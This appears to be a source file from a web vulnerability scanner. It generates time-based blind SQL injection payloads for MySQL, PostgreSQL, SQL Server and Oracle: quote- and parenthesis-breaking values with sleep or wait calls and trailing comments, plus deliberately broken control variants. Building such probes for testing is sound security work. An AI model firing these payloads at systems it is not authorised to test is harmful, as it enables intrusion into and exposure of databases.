import type { InputSurface } from '../../model/surface.ts';
import type { Delaying } from './delays.ts';
import { ordersBy } from './sql-orders.ts';

/** How an engine waits: in a number that is nothing, which stands in a condition, or in a statement of its own. */
type Engine = { name: string; word: string; write(word: string, seconds: string): string; isStatement?: true };

const engines: readonly Engine[] = [
  {
    name: 'MySQL or MariaDB',
    word: 'SLEEP',
    // A table of its own is made once, however many rows there are.
    write: (sleep, n) => `(SELECT 0 FROM (SELECT ${sleep}(${n}))zq)`,
  },
  { name: 'PostgreSQL', word: 'PG_SLEEP', write: (sleep, n) => `(SELECT 0 FROM ${sleep}(${n}))` },
  {
    name: 'SQL Server',
    word: 'WAITFOR',
    write: (wait, n) => `DECLARE @zq DATETIME SET @zq=DATEADD(ss,${n},0) ${wait} DELAY @zq`,
    isStatement: true,
  },
  {
    name: 'Oracle',
    word: 'RECEIVE_MESSAGE',
    write: (receive, n) => `(SELECT COUNT(*) FROM DUAL WHERE DBMS_PIPE.${receive}(CHR(97),${n})=2)`,
  },
];

/** What follows is a comment: in some engines only behind a space, which some programs take off an end. */
const comment = '-- z';

/**
 * Ways in which a value may stand in a statement that reads, with a delay behind it. One value serves for a number, or a name, and for
 * texts in both kinds of quotes: what follows the first that fits is a comment. Conditions are only ever narrowed.
 */
export function sqlDelaysFor({ sample, parameter }: InputSurface): Delaying[] {
  const value = sample === '' ? '1' : sample;
  const isNumber = /^-?\d{1,15}(?:\.\d{1,6})?$/.test(value);
  return engines.flatMap((engine) =>
    ['', ')'].map((close): Delaying => {
      const write = (word: string, seconds: string): string => {
        const delay = engine.write(word, seconds);
        const quoted = (quote: string) =>
          engine.isStatement ? `${quote}${close};${delay}${comment}` : `${quote}${close} AND ${delay}=0${comment}`;
        const plain = isNumber ? `-${delay}${close}` : ordersBy(parameter, value) ? `,${delay}${close}` : undefined;
        const first = engine.isStatement || plain === undefined ? quoted('') : `${plain}${comment}`;
        return `${value}${first}${quoted("'")}${quoted('"')}`;
      };
      return {
        where: `a statement of ${engine.name}${close === '' ? '' : ', in parentheses'}`,
        value: (seconds) => write(engine.word, seconds),
        broken: (seconds) => write(`${engine.word}Q`, seconds),
      };
    }),
  );
}
